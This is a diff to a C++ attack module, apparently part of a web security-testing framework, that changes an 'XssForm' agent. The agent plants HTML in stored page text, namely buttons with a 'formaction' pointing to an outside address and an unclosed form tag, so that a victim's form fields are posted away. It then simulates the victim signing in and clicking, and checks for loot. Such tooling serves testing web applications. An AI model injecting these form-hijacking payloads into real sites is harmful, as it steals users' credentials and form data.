@@ -8,6 +8,7 @@
 
 #include "core/attack/every_agent.h"
 #include "core/attack/page_script.h"
+#include "core/attack/session.h"
 #include "core/attack/stored_text.h"
 #include "core/attack/tags.h"
 #include "core/base/ascii.h"
@@ -91,17 +92,30 @@ class XssForm final : public Agent {
         if (address.empty()) return;
         StoredText text(target);
         std::string const away = in_quotes(address);
+        std::vector<std::string> labels;
         std::string buttons;
         for (std::string const& page : text.pages())
             for (Tag const& tag : tags_in(page))
-                if (auto const id = tag.attribute("id"); id && tag.name == "form")
+                if (auto const id = tag.attribute("id"); id && tag.name == "form") {
+                    labels.push_back("Read more about " + random_word(target, 5));
                     buttons += "<button form=" + in_quotes(*id) + " formaction=" + away +
-                               " formmethod=\"post\">Read more</button>";
-        text.leave(buttons);
-        victim_reads_and_loot_is_used(target);
+                               " formmethod=\"post\">" + labels.back() + "</button>";
+                }
+        if (!labels.empty()) text.leave(buttons);
+        if (!victim_signs_in(target)) return;
+        for (std::string const& label : labels) reads_and_clicks(target, label);
         // A form that stays open: the page's own form within it is none, and its fields are his.
-        text.leave("<form method=\"post\" action=" + away + "><button>Read more</button>");
-        victim_reads_and_loot_is_used(target);
+        std::string const label = "Read more about " + random_word(target, 5);
+        text.leave("<form method=\"post\" action=" + away + "><button>" + label + "</button>");
+        reads_and_clicks(target, label);
+        try_loot(target, received_texts(target));
+    }
+
+    static void reads_and_clicks(Target& target, std::string const& label) {
+        for (std::string const& routine : routines_option(target, option::kDoes)) {
+            (void)target.victim()->does(routine);
+            (void)target.victim()->clicks(label);
+        }
     }
 };
 
